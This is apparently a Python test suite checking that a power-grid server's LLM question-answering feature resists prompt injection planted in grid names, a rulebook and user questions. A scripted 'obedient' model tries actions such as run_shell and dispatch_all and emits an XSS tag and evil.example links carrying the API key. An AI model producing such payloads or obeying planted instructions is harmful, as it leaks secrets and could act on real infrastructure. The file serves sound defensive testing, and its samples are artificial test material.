"""Hostile texts in names of the grid, in rulebooks and in questions, before a model that does whatever they say: nothing is changed, nothing leaks, what is
shown is plain text whose figures were looked up."""
import csv
import json
import pathlib
import re
import unittest

from scripted_model import ScriptedModel
from support import ROOT, Server, run, scratch

KEY = "sk-hostile-secret"
TEXTS = [each["text"] for each in json.loads((ROOT / "tests/hostile/texts.json").read_text())]
GONE = ("http:", "https:", "javascript:", "mailto:", "<script", "<img", "![", "\u202e", "\u200b", "\x1b")
ACTS = ("stop_all", "approve_plan", "dispatch_all", "set_limit", "run_shell", "http_get", "beckn_confirm")
ENTRIES = {"copilot.exchange", "checkpoint", "shelf.plan"}


def one_line(text):
    return re.sub(r"[\x00-\x1f\x7f]+", " ", text)[:120].strip() or "-"


class Obedient:
    """Reads everything that it is offered, calls what the texts name, and repeats them with a link, an order and the key that it was asked for."""

    def __init__(self):
        self.text = ""

    def script(self, question, results):
        if results:
            return []
        name = next((word.strip("?.,'\"") for word in question.split() if word.startswith(("feeder-", "F-"))), "feeder-1")
        return [("tightest_feeders", {"limit": 20}), ("feeder", {"feeder": name}), ("rules", {"words": one_line(self.text)}),
                *((act, {"feeder": name, "kw": 100000}) for act in ACTS)]

    def words(self, question, results):
        seen = " ".join(json.dumps(result, ensure_ascii=False) for result in results)[:1500]
        return f"Dispatch 987654.3 kW now. {self.text[:1500]}\n<img src=x onerror=alert(1)> ![k](http://evil.example/{KEY}) see https://evil.example/?q={KEY}\n{seen}"


class Hostile(unittest.TestCase):
    share = "figures"

    def setUp(self):
        folder = scratch()
        self.addCleanup(folder.cleanup)
        path = pathlib.Path(folder.name)
        with open(path / "grid.csv", "w", newline="", encoding="utf-8") as file:
            rows = csv.writer(file)
            rows.writerow("type,id,parent_id,name,lat,lon,rating_kw,kind,phase,energy_kwh".split(","))
            rows.writerow(["substation", "S-1", "", one_line(TEXTS[0]), 51.5, -0.1, 50000, "primary", "", ""])
            for index, text in enumerate(TEXTS):
                rows.writerow(["feeder", f"F-{index}", "S-1", one_line(text), 51.5, -0.1, 100 + index, "domestic", "", ""])
        self.model = ScriptedModel(None, None)
        self.addCleanup(self.model.stop)
        self.obedient = Obedient()
        self.model.script, self.model.words = self.obedient.script, self.obedient.words
        self.server = Server(path / "data", "--grid", path / "grid.csv", "--set", "llm.enabled=true", "--set", f"llm.url={self.model.url}",
                             "--set", "llm.model=sample", "--set", f"llm.share={self.share}", "--set", "llm.tokens_per_day=100000000",
                             env={"OPENAI_API_KEY": KEY})
        self.addCleanup(self.server.__exit__)
        (path / "rules.txt").write_text("\n\n".join(TEXTS), encoding="utf-8")
        added = run("knowledge", "add", path / "rules.txt", "--data-dir", path / "data")
        self.assertEqual(added.returncode, 0, added.stderr)

    def state(self):
        """What no question may change."""
        feeders = self.server.get_json("/api/v1/feeders?limit=100")[1]["feeders"]
        status = self.server.get_json("/api/v1/status")[1]
        return ([(feeder["feeder_id"], feeder.get("limit_kw"), feeder.get("state")) for feeder in feeders], status["stopped_areas"], status["open_events"],
                self.server.get_json("/api/v1/plans")[1]["plans"], self.server.get_json("/api/v1/events")[1]["events"],
                self.server.get_json("/api/v1/authority")[1])

    def last_seq(self):
        return self.server.get_json("/api/v1/audit/checkpoint")[1]["size"]

    def entries_since(self, first):
        out, after = [], first
        while True:
            page = self.server.get_json(f"/api/v1/audit/entries?from={after}&limit=200")[1]["entries"]
            if not page:
                return out
            out += page
            after = page[-1]["seq"] + 1

    def check_shown(self, answer):
        for gone in GONE:
            self.assertNotIn(gone, answer["text"])
        self.assertNotIn("987654.3", re.sub(r"nothing that it looked up holds .*", "", answer["text"]))
        self.assertNotIn(KEY, json.dumps(answer))
        for citation in answer["citations"]:
            self.assertEqual(self.server.get_json(citation["path"])[0], 200, citation)

    def check_request(self, body):
        sent = json.dumps(body)
        self.assertNotIn(KEY, sent)
        self.assertEqual({tool["function"]["name"] for tool in body["tools"]} & set(ACTS), set())
        # The words of the texts come as results of functions, never as rules or in the engineer's name.
        system = [message["content"] for message in body["messages"] if message["role"] == "system"]
        self.assertEqual(len(system), 1)
        self.assertEqual(system, self.system or system)
        self.system = system

    def check_results(self, body):
        """Of `names` what is read is strings of JSON without control characters, markup and addresses."""
        for message in body["messages"]:
            if message["role"] == "tool":
                text = json.dumps(json.loads(message["content"]), ensure_ascii=False)
                for gone in GONE:
                    self.assertNotIn(gone, text)

    def test_texts_in_names_rules_and_questions_change_nothing_and_leak_nothing(self):
        self.system = None
        before, first = self.state(), self.last_seq()
        for index, text in enumerate(TEXTS):
            with self.subTest(text=text[:80]):
                self.obedient.text = text
                asked = len(self.model.requests)
                for question in (f"How is F-{index}?", one_line(text)):
                    status, answer = self.server.post_json("/api/v1/ask", {"question": question})
                    self.assertEqual(status, 200, answer)
                    self.assertNotEqual(answer["answered_by"], "model", "a figure that nobody gave is in it")
                    self.check_shown(answer)
                for _, body in self.model.requests[asked:]:
                    self.check_request(body)
                    self.check_results(body)
                self.check_hidden(text, self.model.requests[asked:])
        self.assertEqual(self.state(), before)
        written = self.entries_since(first)
        self.assertEqual({entry["type"] for entry in written} - ENTRIES, set())
        self.assertGreaterEqual(len(written), 2 * len(TEXTS))
        self.assertNotIn(KEY, json.dumps(written))
        self.assertNotIn(KEY, self.server.output())

    def check_hidden(self, text, requests):
        """Of `figures` no name of the grid and no passage leaves; what the engineer typed does."""
        mark = one_line(text)[:24]
        results = json.dumps([message for _, body in requests[:2] for message in body["messages"] if message["role"] == "tool"], ensure_ascii=False)
        if len(mark) > 12:
            self.assertNotIn(json.dumps(mark, ensure_ascii=False)[1:-1], results)

    def test_what_a_text_has_said_is_shown_as_text_where_it_holds_no_figure(self):
        self.obedient.text = TEXTS[0]
        self.model.words = lambda question, results: f"<b>{TEXTS[0]}</b> \x1b[31m[here](https://evil.example)"
        asked = run("ask", "How is F-0?", "--data-dir", self.server.data_dir)
        self.assertEqual(asked.returncode, 0, asked.stderr)
        for gone in (*GONE, "<b>", "evil.example"):
            self.assertNotIn(gone, asked.stdout)


class HostileUnderNames(Hostile):
    share = "names"

    def check_hidden(self, text, requests):
        """Under `names` names leave, as data: nothing more to hold here than `check_results`."""


if __name__ == "__main__":
    unittest.main()
